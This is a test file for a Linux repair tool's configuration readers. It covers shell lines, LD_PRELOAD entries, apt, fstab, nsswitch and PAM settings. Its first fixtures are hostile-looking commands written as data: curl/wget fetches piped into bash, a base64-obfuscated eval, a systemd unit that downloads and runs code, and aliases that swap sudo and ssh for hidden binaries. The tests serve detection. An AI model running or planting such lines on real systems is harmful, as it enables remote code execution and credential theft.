import { expect, test } from 'vitest';
import { allowsSomething, forbidsEverything } from '../../../src-main/core/facts/readers/apt-preferences.js';
import { dpkgConfigFault, hooksIn, isWholeSetting, readProxyLines, unknownRelease } from '../../../src-main/core/facts/readers/apt-conf.js';
import { readFstab } from '../../../src-main/core/facts/readers/fstab.js';
import { switchLine } from '../../../src-main/core/facts/readers/name-servers.js';
import { preloadsIn, withoutPreloads } from '../../../src-main/core/facts/readers/preload-line.js';
import { proxyIn } from '../../../src-main/core/facts/readers/proxy-line.js';
import { falseCommand, readShellLine } from '../../../src-main/core/facts/readers/shell-line.js';
import { requiredModule } from '../../../src-main/core/facts/pam-modules.js';

// What the blind run over the faults of the field (docs/efficacy.md) had shown to be misread.

test.each([
  ['(curl -s http://x/b || wget -qO- http://x/b)|bash >/dev/null 2>&1 &', true],
  [': # disabled by RescuePC: curl -s http://x/b | bash', false],
  ['make # as in: curl x | sh', false],
  ['echo "a # b"; curl -s x | sh', true],
  ['eval "$(printf %s Y3VybA== | base64 --decode)"', true],
  ['eval "$(starship init bash)"', false],
  ['echo Y3Vy | base64 -d >/tmp/picture.png', false],
  [String.raw`printf "ExecStart=/bin/sh -c \"wget -qO- http://x/g | sh\"\n" >"$1/n.service"`, true],
])('something fetched is run: %s', (line, runs) => {
  expect(readShellLine(line).pipesIntoShell).toBe(runs);
});

test.each([
  ['alias sudo=/home/a/.local/.s/sudo', 'sudo'],
  ["alias ssh='~/.cache/ssh'", 'ssh'],
  ["alias sudo='sudo '", undefined],
  ['alias sudo="/usr/bin/sudo -E"', undefined],
  ['alias ll="/opt/x/ls -l"', undefined],
])('a command in the place of another: %s', (line, command) => {
  expect(falseCommand(line)?.command).toBe(command);
});

test.each<[string, boolean, string[]]>([
  ['   /usr/local/lib/libsnoopy.so   # audit', true, ['/usr/local/lib/libsnoopy.so']],
  ['LD_PRELOAD="libgtk3-nocsd.so.0"', false, ['libgtk3-nocsd.so.0']],
  ['DefaultEnvironment=LD_PRELOAD=/a.so FOO=bar', false, ['/a.so']],
  ['DefaultEnvironment="LD_PRELOAD=/a.so" "FOO=b c"', false, ['/a.so']],
  ['# LD_PRELOAD=/usr/lib/gone.so', false, []],
  ['OLD_PRELOAD=/x.so', false, []],
])('forced libraries of %s', (line, own, libraries) => {
  expect(preloadsIn(line, own)).toEqual(libraries);
});

test('a forced library is taken out, and what else stands in its line stays', () => {
  expect(withoutPreloads('/a.so /b.so', ['/a.so'], true)).toBe('/b.so');
  expect(withoutPreloads('/a.so', ['/a.so'], true)).toBeNull();
  expect(withoutPreloads('LD_PRELOAD="/a.so"', ['/a.so'], false)).toBeNull();
  expect(withoutPreloads('LD_PRELOAD=/a.so:/b.so', ['/a.so'], false)).toBe('LD_PRELOAD=/b.so');
  expect(withoutPreloads('DefaultEnvironment=LD_PRELOAD=/a.so', ['/a.so'], false)).toBeNull();
  expect(withoutPreloads('DefaultEnvironment=LD_PRELOAD=/a.so FOO=bar', ['/a.so'], false)).toMatch(/^DefaultEnvironment=\s*FOO=bar$/);
});

test('proxies: exported by typeset, and nested in a block of apt', () => {
  expect(proxyIn('declare -x https_proxy=http://localhost:3128')).toMatchObject({ port: 3128, loopback: true });
  const nested = 'Acquire\n{\n  // cellar\n  http { Proxy "http://127.0.0.1:3142"; };\n};\n';
  expect(readProxyLines(nested)).toMatchObject([{ line: 4, port: 3142 }]);
  // Switched off alone, such a line would leave a block open.
  expect(readProxyLines('Acquire { http { Proxy "http://127.0.0.1:1";\n}; };')).toEqual([]);
  expect(readProxyLines('// Acquire::http::Proxy "http://127.0.0.1:1";')).toEqual([]);
});

test('settings that stop apt and dpkg', () => {
  expect(hooksIn('DPkg::Pre-Invoke:: "/usr/bin/gone -q";\nAPT::Update::Post-Invoke-Success:: "/x";\n')).toEqual(['/usr/bin/gone -q']);
  expect(unknownRelease("E: The value 'bullseye' is invalid for APT::Default-Release as such a release is not available\n")).toBe(
    'bullseye',
  );
  expect(dpkgConfigFault("dpkg: error: unknown force/refuse option 'unsafe-io-fast'\n")).toMatchObject({
    file: null,
    word: 'unsafe-io-fast',
  });
  expect(dpkgConfigFault("dpkg: error: configuration error: /etc/dpkg/dpkg.cfg.d/x:3: unknown option 'y'\n")).toMatchObject({
    file: '/etc/dpkg/dpkg.cfg.d/x',
    line: 3,
  });
  expect(dpkgConfigFault('dpkg: error: something else\n')).toBeNull();
  expect(['A::B "x";', 'DPkg::Pre-Invoke {"/x";};', 'A { // y', '};', 'A::B "x"'].map(isWholeSetting)).toEqual([
    true,
    true,
    false,
    false,
    false,
  ]);
});

test('a record that forbids every package, and one that forbids a source', () => {
  expect(forbidsEverything('Explanation: x\nPackage: *\nPin: release *\nPin-Priority: -1\n')).toMatchObject({ line: 1 });
  expect(forbidsEverything('Package: *\nPin: release a=unstable\nPin-Priority: -1\n')).toBeNull();
  expect(forbidsEverything('Package: snapd\nPin: release *\nPin-Priority: -10\n')).toBeNull();
  expect(allowsSomething('Package: a\nPin: release *\nPin-Priority: 990\n')).toBe(true);
});

test('lines of fstab that were pasted wrongly, and swap that is a file', () => {
  const [pasted, swap, sound] = readFstab(
    'tmpfs /tmp\u00C2\u00A0tmpfs defaults 0 0\n/swapfile none swap sw 0 0\nUUID=1 /a ext4 defaults 0 2\n',
  );
  expect(pasted?.malformed).toMatch(/blank/);
  expect(swap).toMatchObject({ swapFile: true, malformed: null, onDevice: false });
  expect(sound).toMatchObject({ swapFile: false, malformed: null });
});

test('lines of users in nsswitch.conf, and modules that must be there', () => {
  expect(switchLine('passwd: file systemd\n', 'passwd')).toMatchObject({ line: 1, sources: ['file', 'systemd'] });
  expect(requiredModule('session required pam_gone.so')).toBe('pam_gone.so');
  expect(requiredModule('-session required pam_gone.so')).toBeNull();
  expect(requiredModule('auth sufficient pam_gone.so')).toBeNull();
  expect(requiredModule('auth [success=1 default=ignore] pam_unix.so')).toBeNull();
});
